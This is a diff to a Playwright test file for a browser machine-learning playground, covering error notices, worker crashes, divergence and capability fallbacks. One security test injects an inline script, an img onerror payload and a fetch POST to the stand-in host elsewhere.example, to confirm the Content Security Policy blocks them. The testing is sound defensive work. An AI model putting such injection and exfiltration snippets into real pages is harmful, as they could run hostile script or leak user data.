@@ -1,25 +1,13 @@
-import { expect, test } from '@playwright/test';
+import { expect, type Page, test } from '@playwright/test';
 import { plainOrigin } from './origins.ts';
 import { Playground } from './playground.ts';
 import { takeScreens } from './screens.ts';
 import { without } from './without.ts';
 
-test('a link with settings that cannot be used is told so, and the rest of it counts', async ({ page }) => {
-  const playground = await Playground.open(page, { batch: 99, colour: 'red', seed: 12, side: 150 });
-  await expect(playground.notices).toContainText('batch is 99, outside from 1 to 32.');
-  await expect(playground.notices).toContainText('There is no setting called "colour"');
-  await expect(playground.notices).toContainText('side is 150');
-  await expect(page.getByRole('spinbutton', { name: 'Seed', exact: true })).toHaveValue('12');
-  await expect(page.getByRole('spinbutton', { name: 'Batch', exact: true })).toHaveValue('4');
-  await takeScreens(page, 'notices');
-  await playground.notices.getByRole('button', { name: 'Dismiss' }).first().click();
-  await expect(playground.notices).not.toContainText('batch is 99');
-});
-
 test('without cross-origin isolation it says so, and trains on one thread', async ({ browser }) => {
   // A service worker would isolate the page.
   const page = await browser.newPage({ serviceWorkers: 'block' });
-  const playground = await Playground.open(page, { evaluateEvery: 1000 }, plainOrigin);
+  const playground = await Playground.open(page, { labelled: '4', evaluateEvery: 1000 }, plainOrigin);
   await expect(playground.capabilities).toContainText('not cross-origin isolated');
   await expect(page.locator('.device-line')).toContainText(/1 thread|one thread/);
   await playground.play.click();
@@ -29,7 +17,7 @@ test('without cross-origin isolation it says so, and trains on one thread', asyn
 
 test('without WebGPU it says so, and trains on WebAssembly', async ({ page }) => {
   await without(page, 'webgpu');
-  const playground = await Playground.open(page, { evaluateEvery: 1000 });
+  const playground = await Playground.open(page, { labelled: '4', evaluateEvery: 1000 });
   await expect(playground.capabilities).toContainText('no WebGPU');
   await expect(page.locator('.device-line')).toHaveAttribute('data-device', 'wasm');
   await playground.play.click();
@@ -44,33 +32,9 @@ test('without SIMD it says so, and what can be done', async ({ page }) => {
   await expect(playground.capabilities).toContainText(/update this one|WebGPU/);
 });
 
-test('a worker that crashes is told in a sentence, and the same run stands again', async ({
-  page,
-  context,
-}) => {
-  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-  const playground = await Playground.open(page, { seed: 8 });
-  await playground.play.click();
-  await playground.stepsBeyond(1);
-  await page.workers()[0]?.evaluate(() => {
-    setTimeout(() => {
-      throw new Error('a test broke it');
-    });
-  });
-  await expect(playground.notices).toContainText('The engine crashed: Error: a test broke it');
-  await expect(playground.notices).toContainText('Press Play to train.');
-  await playground.notices.getByRole('button', { name: 'Copy' }).click();
-  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('a test broke it');
-  await expect(playground.play).toBeEnabled({ timeout: 90_000 });
-  await expect(page.getByRole('spinbutton', { name: 'Seed', exact: true })).toHaveValue('8');
-  const stands = await playground.step();
-  await playground.play.click();
-  await playground.stepsBeyond(stands);
-});
-
 test('a worker that cannot be loaded is told, and the page stays usable', async ({ page }) => {
   await page.route(/worker[^/]*\.js/, (route) => route.abort());
-  await page.goto('/');
+  await page.goto('/?labelled=4');
   const playground = new Playground(page);
   await expect(playground.notices).toContainText('The engine could not be loaded.');
   await expect(playground.reset).toBeEnabled();
@@ -79,70 +43,111 @@ test('a worker that cannot be loaded is told, and the page stays usable', async 
   await expect(playground.play).toBeEnabled({ timeout: 90_000 });
 });
 
-test('a learning rate that diverges stops with a sentence, and a reset recovers', async ({ page }) => {
-  const playground = await Playground.open(page, {
-    learningRate: 1,
-    warmup: 0,
-    clip: 1000,
-    evaluateEvery: 1000,
-  });
-  await playground.play.click();
-  // It may diverge to NaN or just learn nothing; what must not happen is a page that says nothing and is stuck.
-  await Promise.race([
-    expect(playground.notices.locator('[data-level="error"]')).toBeVisible({ timeout: 100_000 }),
-    playground.stepsBeyond(60, 100_000),
-  ]);
-  await playground.reset.click();
-  await expect.poll(() => playground.step()).toBe(0);
-  await expect(playground.play).toBeEnabled({ timeout: 60_000 });
-});
-
-test('the page holds no inline script, asks no other host for anything, and lets nobody else do so', async ({
-  page,
-}) => {
+test.describe('on one page', () => {
+  let page: Page;
+  let playground: Playground;
   const hosts = new Set<string>();
-  page.on('request', (request) => {
-    const url = new URL(request.url());
-    if (url.protocol.startsWith('http')) hosts.add(url.host);
-  });
   const refused: string[] = [];
-  page.on('console', (message) => {
-    if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
+  test.beforeAll(async ({ browser }) => {
+    page = await browser.newPage();
+    page.on('request', (request) => {
+      const url = new URL(request.url());
+      if (url.protocol.startsWith('http')) hosts.add(url.host);
+    });
+    page.on('console', (message) => {
+      if (/Content.Security.Policy/i.test(message.text())) refused.push(message.text());
+    });
+    const unusable = { batch: 99, colour: 'red', side: 150 };
+    // Nothing slows down or holds back a learning rate that is too large.
+    const reckless = { warmup: 0, clip: 1000, evaluateEvery: 1000 };
+    playground = await Playground.open(page, { ...unusable, ...reckless, seed: 12 });
   });
-  const playground = await Playground.open(page);
-  await playground.singleStep.click();
-  await playground.stepsBeyond(0);
-  expect([...hosts]).toEqual([new URL(page.url()).host]);
-  expect(refused).toEqual([]);
-  const answer = await page.request.get('/');
-  const html = await answer.text();
-  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
-  expect(html).not.toMatch(/\son\w+=/);
-  // In the page for hosts without headers, in the headers for its workers.
-  expect(html).toContain('http-equiv="Content-Security-Policy"');
-  expect(answer.headers()['content-security-policy']).toContain("default-src 'none'");
+  test.afterAll(() => page.close());
 
-  const smuggled = await page.evaluate(async () => {
-    const script = document.createElement('script');
-    script.textContent = 'globalThis.smuggled = "script"';
-    document.head.append(script);
-    document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.smuggled = 1">');
-    await new Promise((resolve) => setTimeout(resolve, 500));
-    return 'smuggled' in globalThis;
+  test('a link with settings that cannot be used is told so, and the rest of it counts', async () => {
+    await expect(playground.notices).toContainText('batch is 99, outside from 1 to 32.');
+    await expect(playground.notices).toContainText('There is no setting called "colour"');
+    await expect(playground.notices).toContainText('side is 150');
+    await expect(page.getByRole('spinbutton', { name: 'Seed', exact: true })).toHaveValue('12');
+    await expect(page.getByRole('spinbutton', { name: 'Batch', exact: true })).toHaveValue('4');
+    await takeScreens(page, 'notices');
+    await playground.notices.getByRole('button', { name: 'Dismiss' }).first().click();
+    await expect(playground.notices).not.toContainText('batch is 99');
   });
-  expect(smuggled).toBe(false);
-  const carriedOut = async () => {
-    try {
-      await fetch('https://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: 'a label' });
-      return 'sent';
-    } catch (error) {
-      return String(error);
-    }
-  };
-  const [engine] = page.workers().filter((one) => one.url().includes('worker'));
-  expect(await page.evaluate(carriedOut)).toMatch(/TypeError/);
-  expect(await engine.evaluate(carriedOut)).toMatch(/TypeError/);
-  // Each was stopped in the browser: not a word of it was on its way.
-  expect([...hosts]).toEqual([new URL(page.url()).host]);
-  expect(refused.length).toBeGreaterThan(2);
+
+  test('the page holds no inline script, asks no other host for anything, and lets nobody else do so', async () => {
+    await playground.singleStep.click();
+    await playground.stepsBeyond(0);
+    expect([...hosts]).toEqual([new URL(page.url()).host]);
+    expect(refused).toEqual([]);
+    const answer = await page.request.get('/');
+    const html = await answer.text();
+    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
+    expect(html).not.toMatch(/\son\w+=/);
+    // In the page for hosts without headers, in the headers for its workers.
+    expect(html).toContain('http-equiv="Content-Security-Policy"');
+    expect(answer.headers()['content-security-policy']).toContain("default-src 'none'");
+
+    const smuggled = await page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'globalThis.smuggled = "script"';
+      document.head.append(script);
+      document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="globalThis.smuggled = 1">');
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return 'smuggled' in globalThis;
+    });
+    expect(smuggled).toBe(false);
+    const carriedOut = async () => {
+      try {
+        await fetch('https://elsewhere.example/', { method: 'POST', mode: 'no-cors', body: 'a label' });
+        return 'sent';
+      } catch (error) {
+        return String(error);
+      }
+    };
+    const [engine] = page.workers().filter((one) => one.url().includes('worker'));
+    expect(await page.evaluate(carriedOut)).toMatch(/TypeError/);
+    expect(await engine.evaluate(carriedOut)).toMatch(/TypeError/);
+    // Each was stopped in the browser: not a word of it was on its way.
+    expect([...hosts]).toEqual([new URL(page.url()).host]);
+    expect(refused.length).toBeGreaterThan(2);
+  });
+
+  test('a worker that crashes is told in a sentence, and the same run stands again', async () => {
+    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+    await playground.play.click();
+    await playground.stepsBeyond((await playground.step()) + 1);
+    await page.workers()[0]?.evaluate(() => {
+      setTimeout(() => {
+        throw new Error('a test broke it');
+      });
+    });
+    await expect(playground.notices).toContainText('The engine crashed: Error: a test broke it');
+    await expect(playground.notices).toContainText('Press Play to train.');
+    await playground.notices.getByRole('button', { name: 'Copy' }).click();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('a test broke it');
+    await expect(playground.play).toBeEnabled({ timeout: 90_000 });
+    await expect(page.getByRole('spinbutton', { name: 'Seed', exact: true })).toHaveValue('12');
+    const stands = await playground.step();
+    await playground.play.click();
+    await playground.stepsBeyond(stands);
+    await playground.pause.click();
+  });
+
+  test('a learning rate that diverges stops with a sentence, and a reset recovers', async () => {
+    const learningRate = page.getByRole('spinbutton', { name: 'Learning rate', exact: true });
+    await learningRate.fill('1');
+    await learningRate.press('Enter');
+    await playground.dismissNotices();
+    const stands = await playground.step();
+    await playground.play.click();
+    // It may diverge to NaN or just learn nothing; what must not happen is a page that says nothing and is stuck.
+    await Promise.race([
+      expect(playground.notices.locator('[data-level="error"]')).toBeVisible({ timeout: 100_000 }),
+      playground.stepsBeyond(stands + 60, 100_000),
+    ]);
+    await playground.reset.click();
+    await expect.poll(() => playground.step()).toBe(0);
+    await expect(playground.play).toBeEnabled({ timeout: 60_000 });
+  });
 });
